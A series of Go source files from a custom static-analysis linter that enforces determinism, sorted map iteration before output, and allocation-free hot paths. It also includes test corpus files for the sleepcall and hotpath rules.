					}
				}
			}
			return true
		})
	}
}

// calleeFunc resolves the function or method a call invokes, or nil for
// builtins, function values, and conversions.
func calleeFunc(p *Package, call *ast.CallExpr) *types.Func {
	var obj types.Object
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		obj = p.Info.Uses[fun]
	case *ast.SelectorExpr:
		obj = p.Info.Uses[fun.Sel]
	}
	fn, _ := obj.(*types.Func)
	return fn
}

// errResultIndex returns the position of the error result in fn's
// signature, or -1 if it returns no error.
func errResultIndex(fn *types.Func) int {
	sig, ok := fn.Type().(*types.Signature)
	if !ok {
		return -1
	}
	res := sig.Results()
	errType := types.Universe.Lookup("error").Type()
	for i := 0; i < res.Len(); i++ {
		if types.Identical(res.At(i).Type(), errType) {
			return i
		}
	}
	return -1
}
