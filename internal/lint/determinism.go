package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// checkDeterminism forbids wall-clock reads and ambient randomness in
// the seed-deterministic packages. Every output of those packages must
// be reproducible from (seed, epoch) alone; time.Now, time.Since, and
// the process-seeded global math/rand state all smuggle in state that
// differs between runs.
//
// Explicitly-seeded constructors (rand.New, rand.NewSource, ...) stay
// legal: a *rand.Rand built from a seed the caller controls is exactly
// the kind of randomness the contract wants.
func checkDeterminism(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	if !contains(cfg.Deterministic, p.Path) {
		return
	}
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			id, ok := sel.X.(*ast.Ident)
			if !ok {
				return true
			}
			pn, ok := p.Info.Uses[id].(*types.PkgName)
			if !ok {
				return true
			}
			switch pn.Imported().Path() {
			case "time":
				if name := sel.Sel.Name; name == "Now" || name == "Since" {
					emit(sel.Pos(), RuleDeterminism,
						"time."+name+" leaks wall-clock state into a seed-deterministic package; use the simulated clock or an injected Clock")
				}
			case "math/rand", "math/rand/v2":
				if _, isFunc := p.Info.Uses[sel.Sel].(*types.Func); !isFunc {
					return true // types like rand.Rand, rand.Source are fine
				}
				if randConstructor(sel.Sel.Name) {
					return true
				}
				emit(sel.Pos(), RuleDeterminism,
					"global rand."+sel.Sel.Name+" draws from process-seeded state; build a *rand.Rand from an explicit seed (or use internal/prand)")
			}
			return true
		})
	}
}

// randConstructor reports whether a math/rand package-level function
// builds an explicitly-seeded generator rather than touching the global
// source.
func randConstructor(name string) bool {
	switch name {
	case "New", "NewSource", "NewZipf", "NewPCG", "NewChaCha8":
		return true
	}
	return false
}
