package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// checkMapOrder flags `for range` over maps in the rendering packages
// when the loop body does something Go's randomized iteration order can
// corrupt:
//
//   - appends to a slice declared outside the loop with no later sort of
//     that slice in the same function (table rows in random order);
//   - writes output through fmt.Fprint*/Print* or a Builder/Buffer/Writer
//     method (report lines in random order);
//   - concatenates onto an outer string with += (same, unsortable);
//   - assigns the iteration key or value to outer state outside an
//     append (the argmax-with-ties pattern: the winner depends on which
//     key the runtime happens to visit first).
//
// Writes keyed by the iteration variable (m2[k] = ..., hist[k] = append(
// hist[k], ...)) are per-key buckets and commute, so they pass.
func checkMapOrder(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	if !contains(cfg.Rendering, p.Path) {
		return
	}
	for _, f := range p.Files {
		inspectStack(f, func(n ast.Node, stack []ast.Node) bool {
			rs, ok := n.(*ast.RangeStmt)
			if !ok {
				return true
			}
			tv, ok := p.Info.Types[rs.X]
			if !ok {
				return true
			}
			if _, isMap := tv.Type.Underlying().(*types.Map); !isMap {
				return true
			}
			fnBody := enclosingFuncBody(append(stack, rs.Body))
			c := &mapOrderCheck{
				p:      p,
				rs:     rs,
				fnBody: fnBody,
				emit:   emit,
				iter:   iterObjects(p, rs),
			}
			c.run()
			return true
		})
	}
}

// iterObjects collects the objects bound to the range statement's key
// and value variables.
func iterObjects(p *Package, rs *ast.RangeStmt) map[types.Object]bool {
	out := map[types.Object]bool{}
	for _, e := range []ast.Expr{rs.Key, rs.Value} {
		if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
			if obj := p.Info.Defs[id]; obj != nil {
				out[obj] = true
			} else if obj := p.Info.Uses[id]; obj != nil {
				out[obj] = true // `for k = range` with pre-declared k
			}
		}
	}
	return out
}

type mapOrderCheck struct {
	p      *Package
	rs     *ast.RangeStmt
	fnBody *ast.BlockStmt
	emit   func(token.Pos, string, string)
	iter   map[types.Object]bool
}

func (c *mapOrderCheck) run() {
	ast.Inspect(c.rs.Body, func(n ast.Node) bool {
		switch s := n.(type) {
		case *ast.AssignStmt:
			c.assign(s)
		case *ast.CallExpr:
			if name, ok := c.outputCall(s); ok {
				c.emit(s.Pos(), RuleMapOrder,
					"map iteration writes output via "+name+"; iterate sorted keys so the report is deterministic")
			}
		}
		return true
	})
}

// assign classifies one assignment inside the loop body.
func (c *mapOrderCheck) assign(s *ast.AssignStmt) {
	if s.Tok == token.ADD_ASSIGN {
		// Building a string piece by piece in map order. Numeric +=
		// commutes and stays legal.
		lhs := s.Lhs[0]
		if t, ok := c.p.Info.Types[lhs]; ok && isString(t.Type) && c.outerTarget(lhs) {
			c.emit(s.Pos(), RuleMapOrder,
				"map iteration concatenates onto an outer string; iterate sorted keys instead")
		}
		return
	}
	if s.Tok != token.ASSIGN && s.Tok != token.DEFINE {
		return
	}
	for i, lhs := range s.Lhs {
		if s.Tok == token.DEFINE || !c.outerTarget(lhs) {
			continue
		}
		if i < len(s.Rhs) || len(s.Rhs) == 1 {
			rhs := s.Rhs[0]
			if len(s.Rhs) > 1 {
				rhs = s.Rhs[i]
			}
			if call, ok := rhs.(*ast.CallExpr); ok && c.isAppend(call) {
				// Order still matters, but a sort after the loop
				// repairs it; only flag when none follows.
				if obj := c.baseObject(lhs); obj != nil && !c.sortedAfter(obj) {
					c.emit(s.Pos(), RuleMapOrder,
						"map iteration appends to "+obj.Name()+" with no later sort in this function; sort it (or iterate sorted keys)")
				}
				continue
			}
			if c.mentionsIter(rhs) {
				c.emit(s.Pos(), RuleMapOrder,
					"map iteration key/value escapes to outer state; with ties the result depends on map order — iterate sorted keys")
			}
		}
	}
}

// outputCall reports whether call renders output (fmt printing or a
// writer method), returning a display name for the message.
func (c *mapOrderCheck) outputCall(call *ast.CallExpr) (string, bool) {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return "", false
	}
	if id, ok := sel.X.(*ast.Ident); ok {
		if pn, ok := c.p.Info.Uses[id].(*types.PkgName); ok && pn.Imported().Path() == "fmt" {
			if strings.HasPrefix(sel.Sel.Name, "Fprint") || strings.HasPrefix(sel.Sel.Name, "Print") {
				return "fmt." + sel.Sel.Name, true
			}
			return "", false
		}
	}
	switch sel.Sel.Name {
	case "WriteString", "WriteByte", "WriteRune", "Write":
	default:
		return "", false
	}
	// A builder declared inside the loop is per-iteration scratch; only
	// writers that outlive the loop leak iteration order.
	if id, ok := sel.X.(*ast.Ident); ok {
		if obj := c.p.Info.Uses[id]; obj != nil && within(obj.Pos(), c.rs) {
			return "", false
		}
	}
	t := c.p.Info.Types[sel.X].Type
	if t == nil {
		return "", false
	}
	if ptr, ok := t.(*types.Pointer); ok {
		t = ptr.Elem()
	}
	switch ts := t.String(); ts {
	case "strings.Builder", "bytes.Buffer":
		return ts + "." + sel.Sel.Name, true
	}
	if isIOWriter(t) {
		return "io.Writer." + sel.Sel.Name, true
	}
	return "", false
}

// outerTarget reports whether the assignment target's base variable was
// declared outside the range statement (so the write survives the loop),
// and is not a per-key bucket (indexed by an iteration variable).
func (c *mapOrderCheck) outerTarget(lhs ast.Expr) bool {
	for {
		switch e := lhs.(type) {
		case *ast.IndexExpr:
			if c.mentionsIter(e.Index) {
				return false // per-key bucket, commutative
			}
			lhs = e.X
		case *ast.SelectorExpr:
			lhs = e.X
		case *ast.StarExpr:
			lhs = e.X
		case *ast.Ident:
			obj := c.p.Info.Uses[e]
			if obj == nil {
				obj = c.p.Info.Defs[e]
			}
			return obj != nil && !within(obj.Pos(), c.rs)
		default:
			return false
		}
	}
}

// baseObject returns the root variable of an assignment target.
func (c *mapOrderCheck) baseObject(lhs ast.Expr) types.Object {
	for {
		switch e := lhs.(type) {
		case *ast.IndexExpr:
			lhs = e.X
		case *ast.SelectorExpr:
			lhs = e.X
		case *ast.StarExpr:
			lhs = e.X
		case *ast.Ident:
			if obj := c.p.Info.Uses[e]; obj != nil {
				return obj
			}
			return c.p.Info.Defs[e]
		default:
			return nil
		}
	}
}

// isAppend reports a call to the append builtin.
func (c *mapOrderCheck) isAppend(call *ast.CallExpr) bool {
	id, ok := call.Fun.(*ast.Ident)
	if !ok {
		return false
	}
	b, ok := c.p.Info.Uses[id].(*types.Builtin)
	return ok && b.Name() == "append"
}

// mentionsIter reports whether expr references an iteration variable.
func (c *mapOrderCheck) mentionsIter(expr ast.Expr) bool {
	found := false
	ast.Inspect(expr, func(n ast.Node) bool {
		if id, ok := n.(*ast.Ident); ok {
			if obj := c.p.Info.Uses[id]; obj != nil && c.iter[obj] {
				found = true
			}
		}
		return !found
	})
	return found
}

// sortedAfter reports whether, later in the enclosing function, a
// sort.*/slices.* call mentions obj — the canonical collect-then-sort
// shape.
func (c *mapOrderCheck) sortedAfter(obj types.Object) bool {
	if c.fnBody == nil {
		return false
	}
	found := false
	ast.Inspect(c.fnBody, func(n ast.Node) bool {
		if found {
			return false
		}
		call, ok := n.(*ast.CallExpr)
		if !ok || call.Pos() < c.rs.End() {
			return true
		}
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		id, ok := sel.X.(*ast.Ident)
		if !ok {
			return true
		}
		pn, ok := c.p.Info.Uses[id].(*types.PkgName)
		if !ok {
			return true
		}
		if path := pn.Imported().Path(); path != "sort" && path != "slices" {
			return true
		}
		for _, arg := range call.Args {
			if c.mentionsObj(arg, obj) {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

func (c *mapOrderCheck) mentionsObj(expr ast.Expr, obj types.Object) bool {
	found := false
	ast.Inspect(expr, func(n ast.Node) bool {
		if id, ok := n.(*ast.Ident); ok && c.p.Info.Uses[id] == obj {
			found = true
		}
		return !found
	})
	return found
}

func isString(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsString != 0
}

// isIOWriter reports whether t is or embeds the io.Writer interface.
func isIOWriter(t types.Type) bool {
	iface, ok := t.Underlying().(*types.Interface)
	if !ok {
		return false
	}
	for i := 0; i < iface.NumMethods(); i++ {
		m := iface.Method(i)
		if m.Name() == "Write" && m.Pkg() != nil {
			return true
		}
	}
	return false
}
