package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"strconv"
	"strings"
)

// checkTaintFlow is the flow-sensitive generalization of maporder: it
// tracks values *derived* from map iteration (taint) through assignments,
// function returns, and callback invocations, and reports when a tainted
// value reaches an output sink on some path with no sort in between.
// Where maporder pattern-matches a single range statement, taintflow
// follows the data:
//
//	keys := mapKeys(m)          // mapKeys ranges over m and returns keys
//	if fast { fmt.Println(keys) }  // ← flagged: unsorted on this path
//	sort.Strings(keys)
//	fmt.Println(keys)              // clean: sort dominates this sink
//
// Taint sources: the key/value variables of a range over a map, calls to
// package-local functions whose summary says they return map-iteration-
// derived data, and closure parameters invoked by a function that feeds
// its callback map-iteration-derived arguments (the shardedMap.Collect
// shape). Sanitizers: sort.* / slices.* calls mentioning the value —
// these kill taint flow-sensitively, so a sort on one branch does not
// launder the other. Sinks: fmt print calls and Builder/Buffer/io.Writer
// write methods, as in maporder. Analysis is per base variable
// (field-insensitive): tainting res.Responders taints res, and sorting
// res.Responders cleans res.
//
// Scoped to the Rendering packages, like maporder: elsewhere map order
// feeding output is not a correctness bug.
func checkTaintFlow(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	if !contains(cfg.Rendering, p.Path) {
		return
	}
	sum := buildTaintSummaries(p)
	for _, sc := range funcScopes(p) {
		analyzeTaint(p, sc, nil, sum, emit)
	}
}

// objTaintKey names one variable for the taint state, in the same
// name@declpos form exprKey uses, so keys are stable and deterministic.
func objTaintKey(obj types.Object) string {
	return obj.Name() + "@" + strconv.Itoa(int(obj.Pos()))
}

// ---- package-level summaries ----

// taintSummaries records, per package-local function: does it return
// map-iteration-derived data, and does it invoke a func-typed parameter
// with map-iteration-derived arguments (making every callback passed to
// it a taint source). Built to a fixpoint so chains of helpers summarize
// correctly.
type taintSummaries struct {
	returns  map[*types.Func]bool
	callback map[*types.Func]bool
}

func buildTaintSummaries(p *Package) *taintSummaries {
	s := &taintSummaries{
		returns:  map[*types.Func]bool{},
		callback: map[*types.Func]bool{},
	}
	var decls []*ast.FuncDecl
	for _, f := range p.Files {
		for _, d := range f.Decls {
			if fd, ok := d.(*ast.FuncDecl); ok && fd.Body != nil {
				decls = append(decls, fd)
			}
		}
	}
	for changed := true; changed; {
		changed = false
		for _, fd := range decls {
			fn, ok := p.Info.Defs[fd.Name].(*types.Func)
			if !ok {
				continue
			}
			ret, cb := summarizeFunc(p, fd, s)
			if ret && !s.returns[fn] {
				s.returns[fn] = true
				changed = true
			}
			if cb && !s.callback[fn] {
				s.callback[fn] = true
				changed = true
			}
		}
	}
	return s
}

// summarizeFunc computes one function's summary with a flow-insensitive
// taint propagation: seeds are map-range key/value variables, taint
// spreads through assignments and calls to already-summarized functions,
// and a sort anywhere in the function clears the sorted variable (the
// flow-sensitive per-path check happens intra-procedurally; the summary
// only has to say whether the function *can* hand back ordered-by-map
// data after its own best effort).
func summarizeFunc(p *Package, fd *ast.FuncDecl, s *taintSummaries) (returnsTainted, callbackTainted bool) {
	tainted := map[types.Object]bool{}
	paramObjs := map[types.Object]bool{}
	if fd.Type.Params != nil {
		for _, field := range fd.Type.Params.List {
			for _, name := range field.Names {
				if obj := p.Info.Defs[name]; obj != nil {
					paramObjs[obj] = true
				}
			}
		}
	}

	// Seeds: map-range iteration variables (closures excluded — their
	// taint is scoped to their own analysis).
	walkSkipFuncLit(fd.Body, func(n ast.Node) bool {
		rs, ok := n.(*ast.RangeStmt)
		if !ok {
			return true
		}
		if tv, ok := p.Info.Types[rs.X]; ok {
			if _, isMap := tv.Type.Underlying().(*types.Map); isMap {
				for obj := range iterObjects(p, rs) {
					tainted[obj] = true
				}
			}
		}
		return true
	})

	mentionsTainted := func(e ast.Expr) bool {
		return exprMentionsTaintedObj(p, e, tainted) || callsTaintedFunc(p, e, s)
	}

	// Propagate through assignments to a fixpoint.
	for changed := true; changed; {
		changed = false
		walkSkipFuncLit(fd.Body, func(n ast.Node) bool {
			as, ok := n.(*ast.AssignStmt)
			if !ok {
				return true
			}
			for i, lhs := range as.Lhs {
				rhs := as.Rhs[0]
				if len(as.Rhs) == len(as.Lhs) {
					rhs = as.Rhs[i]
				}
				if !mentionsTainted(rhs) {
					continue
				}
				if obj := rootObject(p, lhs); obj != nil && !tainted[obj] {
					tainted[obj] = true
					changed = true
				}
			}
			return true
		})
	}

	// A sort anywhere clears the variable for summary purposes.
	walkSkipFuncLit(fd.Body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok || !isSortCall(p, call) {
			return true
		}
		for _, arg := range call.Args {
			for _, obj := range mentionedVars(p, arg) {
				delete(tainted, obj)
			}
		}
		return true
	})

	walkSkipFuncLit(fd.Body, func(n ast.Node) bool {
		switch e := n.(type) {
		case *ast.ReturnStmt:
			for _, res := range e.Results {
				if mentionsTainted(res) {
					returnsTainted = true
				}
			}
		case *ast.CallExpr:
			// Invoking a func-typed parameter with tainted arguments.
			id, ok := e.Fun.(*ast.Ident)
			if !ok {
				return true
			}
			if obj := p.Info.Uses[id]; obj == nil || !paramObjs[obj] {
				return true
			}
			for _, arg := range e.Args {
				if mentionsTainted(arg) {
					callbackTainted = true
				}
			}
		}
		return true
	})
	return returnsTainted, callbackTainted
}

// walkSkipFuncLit is ast.Inspect that does not descend into function
// literals (their bodies run in their own scope).
func walkSkipFuncLit(root ast.Node, fn func(ast.Node) bool) {
	ast.Inspect(root, func(n ast.Node) bool {
		if _, ok := n.(*ast.FuncLit); ok {
			return false
		}
		return fn(n)
	})
}

// ---- intra-procedural flow analysis ----

// taintState is the set of tainted variable keys; may-analysis, so join
// is union: tainted on any path means tainted.
type taintState map[string]bool

func (t taintState) clone() taintState {
	out := make(taintState, len(t))
	for k := range t {
		out[k] = true
	}
	return out
}

// taintRun carries the pieces one function's analysis needs.
type taintRun struct {
	p   *Package
	sum *taintSummaries
	// outer collects variables declared outside the analyzed body that a
	// tainted value was written to — how a callback closure's effects
	// propagate to its caller. nil outside closures.
	outer map[types.Object]bool
	body  *ast.BlockStmt
	name  string
}

// analyzeTaint runs the taint dataflow over one function body. seed
// pre-taints variables (closure parameters at a tainted-callback call
// site); emit may be nil to suppress findings (solver-internal closure
// passes). It returns the set of outer variables the body taints.
func analyzeTaint(p *Package, sc funcScope, seed []types.Object, sum *taintSummaries, emit func(token.Pos, string, string)) map[types.Object]bool {
	r := &taintRun{p: p, sum: sum, outer: map[types.Object]bool{}, body: sc.body, name: sc.name}
	entry := taintState{}
	for _, obj := range seed {
		entry[objTaintKey(obj)] = true
	}
	g := BuildCFG(sc.body)
	in := solveForward(flowProblem{
		cfg:   g,
		entry: entry,
		transfer: func(b *Block, s flowState) flowState {
			return r.transfer(b, s.(taintState), nil)
		},
		join: func(a, b flowState) flowState {
			out := a.(taintState).clone()
			for k := range b.(taintState) {
				out[k] = true
			}
			return out
		},
		equal: func(a, b flowState) bool {
			x, y := a.(taintState), b.(taintState)
			if len(x) != len(y) {
				return false
			}
			for k := range x {
				if !y[k] {
					return false
				}
			}
			return true
		},
	})
	// Final pass in block order with the solved in-states: emit findings
	// and record outer-variable effects deterministically.
	for _, b := range g.Blocks {
		s, ok := in[b]
		if !ok {
			continue
		}
		r.transfer(b, s.(taintState), emit)
	}
	return r.outer
}

// transfer folds one block's nodes into the state. When emit is non-nil
// this is the reporting pass.
func (r *taintRun) transfer(b *Block, in taintState, emit func(token.Pos, string, string)) taintState {
	s := in.clone()
	for _, n := range b.Nodes {
		walkBlockNode(n, func(m ast.Node) bool {
			return r.applyNode(m, s, emit)
		})
	}
	return s
}

func (r *taintRun) applyNode(n ast.Node, s taintState, emit func(token.Pos, string, string)) bool {
	switch e := n.(type) {
	case *ast.FuncLit:
		// Closure bodies are separate scopes; tainted-callback literals
		// are handled at their call site.
		return false

	case *ast.RangeStmt:
		// Loop-header node: ranging a map taints the iteration variables;
		// ranging a tainted slice propagates its order.
		taintedSrc := r.exprTainted(e.X, s)
		if tv, ok := r.p.Info.Types[e.X]; ok {
			if _, isMap := tv.Type.Underlying().(*types.Map); isMap {
				taintedSrc = true
			}
		}
		if taintedSrc {
			for obj := range iterObjects(r.p, e) {
				s[objTaintKey(obj)] = true
			}
		}
		return true

	case *ast.AssignStmt:
		r.applyAssign(e, s)
		return true

	case *ast.CallExpr:
		r.applyCall(e, s, emit)
		return true
	}
	return true
}

// applyAssign taints or strong-updates assignment targets.
func (r *taintRun) applyAssign(as *ast.AssignStmt, s taintState) {
	for i, lhs := range as.Lhs {
		rhs := as.Rhs[0]
		if len(as.Rhs) == len(as.Lhs) {
			rhs = as.Rhs[i]
		}
		obj := rootObject(r.p, lhs)
		if obj == nil {
			continue
		}
		switch {
		case r.exprTainted(rhs, s) || as.Tok == token.ADD_ASSIGN && s[objTaintKey(obj)]:
			s[objTaintKey(obj)] = true
			r.noteOuterWrite(obj)
		case isPlainIdent(lhs) && (as.Tok == token.ASSIGN || as.Tok == token.DEFINE):
			// Whole-variable overwrite with clean data kills taint.
			delete(s, objTaintKey(obj))
		}
	}
}

// applyCall handles sanitizers, tainted-callback call sites, and sinks.
func (r *taintRun) applyCall(call *ast.CallExpr, s taintState, emit func(token.Pos, string, string)) {
	if isSortCall(r.p, call) {
		for _, arg := range call.Args {
			for _, obj := range mentionedVars(r.p, arg) {
				delete(s, objTaintKey(obj))
			}
		}
		return
	}
	// Calling a function that feeds map-iteration-derived values to its
	// callback: every closure literal argument runs with tainted
	// parameters, and whatever outer variables it taints become tainted
	// here, at the call site.
	if fn := calleeFunc(r.p, call); fn != nil && r.sum.callback[fn] {
		for _, arg := range call.Args {
			lit, ok := arg.(*ast.FuncLit)
			if !ok {
				continue
			}
			var seed []types.Object
			if lit.Type.Params != nil {
				for _, field := range lit.Type.Params.List {
					for _, name := range field.Names {
						if obj := r.p.Info.Defs[name]; obj != nil {
							seed = append(seed, obj)
						}
					}
				}
			}
			outer := analyzeTaint(r.p, funcScope{lit: lit, name: r.name + ".func", body: lit.Body}, seed, r.sum, emit)
			keys := make([]string, 0, len(outer))
			byKey := map[string]types.Object{}
			for obj := range outer {
				k := objTaintKey(obj)
				keys = append(keys, k)
				byKey[k] = obj
			}
			sortStrings(keys)
			for _, k := range keys {
				s[k] = true
				r.noteOuterWrite(byKey[k])
			}
		}
	}
	if emit == nil {
		return
	}
	if name, ok := outputSink(r.p, call); ok {
		for _, arg := range call.Args {
			if r.exprTainted(arg, s) {
				emit(call.Pos(), RuleTaintFlow,
					"value derived from map iteration reaches "+name+" without a sort on this path; sort the collected data before rendering (or iterate sorted keys)")
				break
			}
		}
	}
}

// noteOuterWrite records a tainted write to a variable declared outside
// the analyzed body, so closure effects surface at the call site.
func (r *taintRun) noteOuterWrite(obj types.Object) {
	if r.outer == nil {
		return
	}
	if !within(obj.Pos(), r.body) {
		r.outer[obj] = true
	}
}

// exprTainted reports whether the expression mentions a tainted variable
// or calls a function summarized as returning map-iteration-derived data.
func (r *taintRun) exprTainted(e ast.Expr, s taintState) bool {
	found := false
	walkSkipFuncLit(e, func(n ast.Node) bool {
		if found {
			return false
		}
		switch m := n.(type) {
		case *ast.Ident:
			if obj := r.p.Info.Uses[m]; obj != nil && s[objTaintKey(obj)] {
				found = true
			}
		case *ast.CallExpr:
			if fn := calleeFunc(r.p, m); fn != nil && r.sum.returns[fn] {
				found = true
			}
		}
		return !found
	})
	return found
}

// ---- shared helpers ----

// rootObject resolves an expression to its base variable: res.Responders
// → res, keys[i] → keys.
func rootObject(p *Package, e ast.Expr) types.Object {
	for {
		switch x := e.(type) {
		case *ast.Ident:
			if x.Name == "_" {
				return nil
			}
			if obj := p.Info.Uses[x]; obj != nil {
				return obj
			}
			return p.Info.Defs[x]
		case *ast.SelectorExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		case *ast.ParenExpr:
			e = x.X
		default:
			return nil
		}
	}
}

func isPlainIdent(e ast.Expr) bool {
	_, ok := e.(*ast.Ident)
	return ok
}

// mentionedVars lists the variable objects an expression references, in
// source order.
func mentionedVars(p *Package, e ast.Expr) []*types.Var {
	var out []*types.Var
	ast.Inspect(e, func(n ast.Node) bool {
		if id, ok := n.(*ast.Ident); ok {
			if v, ok := p.Info.Uses[id].(*types.Var); ok {
				out = append(out, v)
			}
		}
		return true
	})
	return out
}

// isSortCall reports a call into package sort or slices — the sanitizer.
func isSortCall(p *Package, call *ast.CallExpr) bool {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return false
	}
	id, ok := sel.X.(*ast.Ident)
	if !ok {
		return false
	}
	pn, ok := p.Info.Uses[id].(*types.PkgName)
	if !ok {
		return false
	}
	path := pn.Imported().Path()
	return path == "sort" || path == "slices"
}

// callsTaintedFunc reports whether e contains a call to a function whose
// summary says it returns map-iteration-derived data.
func callsTaintedFunc(p *Package, e ast.Expr, s *taintSummaries) bool {
	found := false
	walkSkipFuncLit(e, func(n ast.Node) bool {
		if call, ok := n.(*ast.CallExpr); ok {
			if fn := calleeFunc(p, call); fn != nil && s.returns[fn] {
				found = true
			}
		}
		return !found
	})
	return found
}

// exprMentionsTaintedObj reports whether e references an object in the
// (summary-phase, object-keyed) tainted set.
func exprMentionsTaintedObj(p *Package, e ast.Expr, tainted map[types.Object]bool) bool {
	found := false
	walkSkipFuncLit(e, func(n ast.Node) bool {
		if id, ok := n.(*ast.Ident); ok {
			if obj := p.Info.Uses[id]; obj != nil && tainted[obj] {
				found = true
			}
		}
		return !found
	})
	return found
}

// outputSink mirrors maporder's output-call classification, without the
// range-scope exemption: fmt printing and writer methods.
func outputSink(p *Package, call *ast.CallExpr) (string, bool) {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return "", false
	}
	if id, ok := sel.X.(*ast.Ident); ok {
		if pn, ok := p.Info.Uses[id].(*types.PkgName); ok && pn.Imported().Path() == "fmt" {
			// Sprint* is not a sink: formatting a tainted value into a
			// string propagates taint (the caller may still sort the
			// collected strings); only actual output freezes the order.
			if strings.HasPrefix(sel.Sel.Name, "Fprint") || strings.HasPrefix(sel.Sel.Name, "Print") {
				return "fmt." + sel.Sel.Name, true
			}
			return "", false
		}
	}
	switch sel.Sel.Name {
	case "WriteString", "WriteByte", "WriteRune", "Write":
	default:
		return "", false
	}
	t := p.Info.Types[sel.X].Type
	if t == nil {
		return "", false
	}
	if ptr, ok := t.(*types.Pointer); ok {
		t = ptr.Elem()
	}
	switch ts := t.String(); ts {
	case "strings.Builder", "bytes.Buffer":
		return ts + "." + sel.Sel.Name, true
	}
	if isIOWriter(t) {
		return "io.Writer." + sel.Sel.Name, true
	}
	return "", false
}

// sortStrings is a tiny insertion sort so this file does not import sort
// for a three-element slice (and to keep determinism self-evident).
func sortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}
