// Corpus for the sleepcall rule. Loaded by lint_test.go under a neutral
// import path: the rule applies to every package in the module.
package corpus

import "time"

// BadSleep parks the goroutine outside the Clock seam.
func BadSleep() {
	time.Sleep(time.Second) // want sleepcall
}

// BadAfter leaks a timer channel no fake clock can drive.
func BadAfter() <-chan time.Time {
	return time.After(time.Second) // want sleepcall
}

// BadNewTimer builds a raw timer.
func BadNewTimer() *time.Timer {
	return time.NewTimer(time.Second) // want sleepcall
}

// BadTicker builds a raw ticker.
func BadTicker() *time.Ticker {
	return time.NewTicker(time.Second) // want sleepcall
}

// BadTick leaks an unstoppable ticker channel.
func BadTick() <-chan time.Time {
	return time.Tick(time.Second) // want sleepcall
}

// sleeper is the corpus stand-in for scanner.Clock.
type sleeper interface {
	Sleep(d time.Duration)
}

// OKInjected delays through the injected seam: legal.
func OKInjected(c sleeper, d time.Duration) {
	c.Sleep(d)
}

// OKTypes only mentions timer types and arithmetic, not timer state.
func OKTypes(t *time.Timer, d time.Duration) time.Duration {
	return d + time.Second
}

// AllowedSleep is a Clock implementation's exemption.
func AllowedSleep(d time.Duration) {
	time.Sleep(d) //lint:allow sleepcall corpus fixture for a Clock implementation
}

// AllowedAbove is suppressed from the line above.
func AllowedAbove(d time.Duration) *time.Timer {
	//lint:allow sleepcall corpus fixture, comment-above form
	return time.NewTimer(d)
}

// MalformedAllow has no reason: the comment itself is a finding and does
// not suppress.
func MalformedAllow(d time.Duration) {
	//lint:allow sleepcall
	time.Sleep(d) // want sleepcall + allow
}
