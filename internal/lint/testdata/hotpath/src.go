// Corpus for the hotpath rule: //lint:hotpath functions must not contain
// allocating constructs on any reachable path.
package corpus

import "fmt"

// shared sink so the corpus has somewhere concrete to write.
var sink []uint32

// OKArithmetic is allocation-free: arithmetic, array writes, field reads.
//
//lint:hotpath pure arithmetic
func OKArithmetic(u uint32) [4]byte {
	var b [4]byte
	b[0] = byte(u >> 24)
	b[1] = byte(u >> 16)
	b[2] = byte(u >> 8)
	b[3] = byte(u)
	return b
}

// OKCallerStorage writes into the caller's slice — no growth, no alloc.
//
//lint:hotpath fills caller-provided storage
func OKCallerStorage(dst []uint32, u uint32) int {
	n := 0
	for n < len(dst) {
		dst[n] = u
		n++
	}
	return n
}

// BadAppend grows a slice on the hot path.
//
//lint:hotpath demo
func BadAppend(dst []uint32, u uint32) []uint32 {
	return append(dst, u) // want hotpath
}

// BadMake allocates per call.
//
//lint:hotpath demo
func BadMake(n int) []uint32 {
	return make([]uint32, n) // want hotpath
}

// BadStringConcat builds a string.
//
//lint:hotpath demo
func BadStringConcat(a, b string) string {
	return a + b // want hotpath
}

// BadStringConv copies between representations.
//
//lint:hotpath demo
func BadStringConv(b []byte) string {
	return string(b) // want hotpath
}

// BadClosure captures n: the environment allocates.
//
//lint:hotpath demo
func BadClosure(n int) func() int {
	return func() int { return n } // want hotpath
}

// OKNonCapturingClosure references nothing from the frame.
//
//lint:hotpath demo
func OKNonCapturingClosure() func() int {
	return func() int { return 1 }
}

// BadMapLiteral allocates the map.
//
//lint:hotpath demo
func BadMapLiteral(k string) map[string]int {
	return map[string]int{k: 1} // want hotpath
}

// BadSliceLiteral allocates the backing array.
//
//lint:hotpath demo
func BadSliceLiteral(u uint32) []uint32 {
	return []uint32{u} // want hotpath
}

// BadBoxing passes a concrete int to fmt's any parameter.
//
//lint:hotpath demo
func BadBoxing(u uint32) {
	fmt.Println(u) // want hotpath
}

// OKUnreachable has its alloc after the return — on no path.
//
//lint:hotpath demo
func OKUnreachable(dst []uint32, u uint32) []uint32 {
	return dst
	dst = append(dst, u) //nolint dead code on purpose
	return dst
}

// BadBranch allocates only on the rare branch — still a finding.
//
//lint:hotpath demo
func BadBranch(dst []uint32, u uint32, grow bool) []uint32 {
	if grow {
		dst = append(dst, u) // want hotpath
	}
	return dst
}

// UnannotatedAppend is not annotated, so append is fine here.
func UnannotatedAppend(dst []uint32, u uint32) []uint32 {
	return append(dst, u)
}

// AllowedAppend documents a deliberate cold-start exception.
//
//lint:hotpath demo
func AllowedAppend(dst []uint32, u uint32) []uint32 {
	//lint:allow hotpath first call grows once, then the capacity sticks
	return append(dst, u)
}

